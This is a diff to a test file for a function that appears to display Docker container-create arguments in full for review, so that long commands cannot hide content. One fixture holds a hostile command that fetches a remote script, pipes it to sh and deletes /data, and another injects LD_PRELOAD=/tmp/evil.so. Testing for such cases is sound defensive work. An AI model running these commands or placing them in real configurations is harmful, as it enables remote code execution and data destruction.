@@ -25,18 +25,69 @@ describe('escapeControl', () => {
 describe('describeArguments', () => {
   const padding = Array.from({ length: 50 }, (_, i) => `PAD_${i}=${'p'.repeat(300)}`);
 
-  it("puts a create body's HostConfig first and in full, and shortens only the rest", () => {
+  it("shows a create body's HostConfig first, then what runs, every value in full", () => {
     const binds = Array.from({ length: 40 }, (_, i) => `/srv/${'d'.repeat(200)}${i}:/m${i}`);
     const text = describeArguments(containerCreate.effects, {
       name: 'web',
-      body: { Image: 'x', Env: padding, HostConfig: { Binds: binds } },
+      body: { Image: 'x', Env: padding, HostConfig: { Binds: binds }, Cmd: ['run'] },
     });
     const lines = text.split('\n');
-    expect(lines[1]).toMatch(/^ {2}body\.HostConfig = /);
+    expect(lines.slice(1).map((line) => line.split(' = ')[0])).toEqual([
+      '  body.HostConfig',
+      '  body.Env',
+      '  body.Cmd',
+      '  body.Image',
+      '  name',
+    ]);
     for (const bind of binds) expect(lines[1]).toContain(bind);
-    expect(text).toMatch(/PAD_0=p{54}…\[186 characters left out\]…p{60}/);
-    expect(text).toContain('[25 more entries left out]');
+    for (const entry of padding) expect(lines[2]).toContain(entry);
+    expect(text).not.toContain('left out');
     expect(lines.every((line) => !line.includes('\u2028'))).toBe(true);
+  });
+
+  it("never shortens what runs: the issue's command, entrypoint, health check, user, environment", () => {
+    const hidden = 'wget -qO- http://203.0.113.9/x | sh; rm -rf /data/*';
+    const long = `echo starting the service ${'.'.repeat(120)}; ${hidden}`;
+    const env = Array.from({ length: 41 }, (_, i) =>
+      i === 20 ? 'LD_PRELOAD=/tmp/evil.so' : `VAR_${i}=${'v'.repeat(40)}`,
+    );
+    const body = {
+      Image: 'x',
+      Cmd: ['sh', '-c', long],
+      Entrypoint: ['/bin/sh', '-c', long],
+      Healthcheck: { Test: ['CMD-SHELL', long] },
+      User: `0:0${' '.repeat(200)}x`,
+      Env: env,
+      WorkingDir: `/${'w'.repeat(300)}`,
+    };
+    const text = describeArguments(containerCreate.effects, { body });
+    expect(text).not.toContain('left out');
+    expect(text.split(hidden)).toHaveLength(4);
+    expect(text).toContain('"LD_PRELOAD=/tmp/evil.so"');
+    for (const entry of env) expect(text).toContain(entry);
+    expect(text).toContain(body.User);
+    expect(text).toContain(body.WorkingDir);
+  });
+
+  it('shortens only names and labels, with a count, at any depth', () => {
+    const labels = Object.fromEntries(
+      Array.from({ length: 40 }, (_, i) => [`l${String(i).padStart(2, '0')}`, 'v']),
+    );
+    const text = describeArguments(containerCreate.effects, {
+      name: 'n'.repeat(200),
+      body: {
+        Image: 'x',
+        Labels: { ...labels, long: 'y'.repeat(300) },
+        Hostname: 'h'.repeat(200),
+        HostConfig: {
+          Mounts: [{ Type: 'volume', Target: '/v', VolumeOptions: { Labels: labels } }],
+        },
+      },
+    });
+    expect(text).toContain('"…":"[16 more entries left out]"');
+    expect(text).toContain('"…":"[15 more entries left out]"');
+    expect(text).toContain(`${'n'.repeat(60)}…[80 characters left out]…`);
+    expect(text).toContain(`${'h'.repeat(60)}…[80 characters left out]…`);
   });
 
   it('shows an argument that adds an effect first and in full (attach input), escaped', () => {
